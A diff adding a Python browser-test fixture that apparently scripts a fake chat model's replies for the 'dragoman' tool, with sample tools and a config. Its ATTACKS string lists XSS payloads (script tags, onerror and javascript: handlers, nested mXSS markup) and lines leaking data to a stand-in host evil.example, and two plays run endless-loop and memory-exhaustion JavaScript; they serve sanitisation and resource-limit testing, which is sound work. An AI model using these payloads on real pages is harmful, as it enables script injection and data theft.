@@ -1,0 +1,216 @@
+"""What the model does in the browser tests: the person's message names a play, spoken over HTTP.
+
+Run it (`python -m tests.browser.plays FOLDER`) to have such a model, and a `dragoman.toml` that uses it, and
+look at the page by hand: `dragoman serve --config FOLDER/dragoman.toml`, then say one of the names.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import sys
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+from dragoman.messages.usage import Usage
+from dragoman.wire.scripted import Line, calls, calls_with, says, thinks
+from tests.loopback import Body, loopback
+
+LONG = "\n\n".join(
+    f"Paragraph {n}: " + "the quick brown fox jumps over the lazy dog. " * 3 for n in range(40)
+)
+
+MARKDOWN = """\
+# A heading
+
+Some **bold** text, `code`, and a [link](https://example.org/).
+
+| tool | calls |
+|---|---|
+| add | 3 |
+| shell | 1 |
+
+```python
+def add(a: int, b: int) -> int:
+    return a + b
+```
+
+Euler: $e^{i\\pi} + 1 = 0$
+
+- one
+- two
+"""
+
+ATTACKS = """\
+<script>window.hacked = 1</script>
+<img src=x onerror="window.hacked = 2">
+[click](javascript:window.hacked=3)
+<a href="javascript:window.hacked=4">here</a>
+<svg onload="window.hacked=5"><script>window.hacked=6</script></svg>
+<iframe src="javascript:window.hacked=7"></iframe>
+<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=8></style></mglyph></table></mtext></math>
+![picture](http://evil.example/leak.png?data=secret)
+<form action="http://evil.example"><button formaction="javascript:window.hacked=9">go</button></form>
+<style>body{display:none}</style>
+<a href="data:text/html,<script>window.hacked=10</script>">data</a>
+<div style="background:url(http://evil.example/x.png)">x</div>
+<base href="http://evil.example/">
+<details open ontoggle="window.hacked=11">x</details>
+<input autofocus onfocus="window.hacked=12">
+```html
+<img src=x onerror="window.hacked=13">
+```
+"""
+
+SPEED = 0.01  # seconds between pieces
+
+PLAYS: dict[str, list[Line]] = {
+    "hello": [says("Hello! How can I help?")],
+    "think": [thinks("The person wants me to think.") + says("I have thought about it.")],
+    "markdown": [says(MARKDOWN)],
+    "attacks": [says(ATTACKS)],
+    "long": [says(LONG, waits=SPEED)],
+    "slow": [says("word " * 200, waits=0.05)],
+    "add": [calls("add", a=2, b=3), says("It is 5.")],
+    "note": [calls("note", text="buy milk", title="list"), says("The note is written.")],
+    "two": [calls("note", text="one") + calls("note", text="two"), says("Both are written.")],
+    "secret": [calls("secret"), says("I have seen it.")],
+    "nap": [calls("nap", seconds=60), says("I have slept.")],
+    "count": [calls("count", to=5), says("Counted.")],
+    "picture": [calls("picture"), says("Here it is.")],
+    "big": [calls("big"), says("That was much.")],
+    "broken": [calls_with("add", '{"a": 2'), says("I could not.")],
+    "loop": [*[calls("add", a=1, b=1) for _ in range(4)], says("Enough.")],
+    "ask": [calls("ask_person", question="Which colour?", choices=["red", "blue"]), says("Thank you.")],
+    "js": [calls("browser_js_eval", code="return 6 * 7"), says("42.")],
+    "endless": [calls("browser_js_eval", code="while (true) {}"), says("It did not end.")],
+    "bomb": [
+        calls("browser_js_eval", code="const a = []; while (true) a.push(new Array(1e6).fill(1))"),
+        says("It was stopped."),
+    ],
+    "write": [
+        calls("browser_write_file", path="notes/a.txt", text="written in the browser"),
+        says("Written."),
+    ],
+    "read": [calls("browser_read_file", path="notes/a.txt"), says("Read.")],
+    "list": [calls("browser_list_directory", path=""), says("Listed.")],
+    "task": [calls("task", agent="helper", request="note"), says("The helper is done.")],
+}
+
+
+def obey(body: Body) -> Line:
+    """The next line of the play that the last message of the person names."""
+    said = [message for message in body["messages"] if message["role"] == "user"]
+    name = _text(said[-1]["content"]).strip().partition("\n")[0]
+    after = body["messages"][body["messages"].index(said[-1]) + 1 :]
+    place = sum(message["role"] == "assistant" for message in after)
+    if name.startswith("js: "):
+        play = [calls("browser_js_eval", code=name.removeprefix("js: ")), says("Done.")]
+    else:
+        play = PLAYS.get(name, [says(f"You said: {name}")])
+    line: Line = play[min(place, len(play) - 1)]
+    return replace(line, usage=Usage(100, 20)) if not line.usage.total else line
+
+
+def _text(content: Any) -> str:
+    if isinstance(content, str):
+        return content
+    return "".join(part.get("text", "") for part in content)
+
+
+TOOLS = '''\
+"""Tools for the browser tests."""
+
+import base64
+import time
+
+from dragoman import ToolContext, ToolOutput, tool
+
+
+@tool
+def add(a: int, b: int) -> int:
+    """Add two numbers."""
+    return a + b
+
+
+@tool(permission="notes.write", pattern="title")
+def note(text: str, title: str = "note") -> str:
+    """Write a note."""
+    return f"wrote {text!r} under {title!r}"
+
+
+@tool(review="always")
+def secret() -> str:
+    """Read the secret."""
+    return "the password is swordfish"
+
+
+@tool(cancellable=True)
+async def nap(seconds: float) -> str:
+    """Sleep."""
+    import asyncio
+    await asyncio.sleep(seconds)
+    return "awake"
+
+
+@tool
+def count(to: int, context: ToolContext) -> str:
+    """Count, slowly."""
+    for n in range(1, to + 1):
+        context.progress(f"{n} of {to}")
+        time.sleep(0.05)
+    return f"counted to {to}"
+
+
+PNG = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC"
+)
+
+
+@tool
+async def picture(context: ToolContext) -> ToolOutput:
+    """A picture."""
+    file = await context.put_file(base64.b64decode(PNG), "image/png", "red.png")
+    return ToolOutput("a red square", attachments=(file,))
+
+
+@tool
+def big() -> str:
+    """A megabyte of text."""
+    return "\\n".join(f"line {n}: " + "x" * 40 for n in range(20_000))
+'''
+
+CONFIG = """\
+model = "stage/model"
+store = "chat.db"
+tools = ["basics", "files", "browser"]
+allow = ["add", "secret", "nap", "count", "picture", "big", "task", "browser.*"]
+
+[providers.stage]
+title = "Stage"
+base_url = "{url}"
+local = true
+
+[agents.helper]
+description = "writes notes"
+tools = ["tools"]
+"""
+
+
+def furnish(folder: Path, url: str) -> Path:
+    """A workspace with tools and a configuration whose model is at this address."""
+    (folder / "tools").mkdir(parents=True, exist_ok=True)
+    (folder / "tools" / "stage.py").write_text(TOOLS, "utf-8")
+    config = folder / "dragoman.toml"
+    config.write_text(CONFIG.format(url=url), "utf-8")
+    return config
+
+
+async def _main(folder: Path) -> None:
+    async with loopback(obey) as server:
+        print(f"serve with: dragoman serve --config {furnish(folder, server.url)}", flush=True)  # noqa: T201
+        await asyncio.Event().wait()
+
+
+if __name__ == "__main__":
+    asyncio.run(_main(Path(sys.argv[1])))
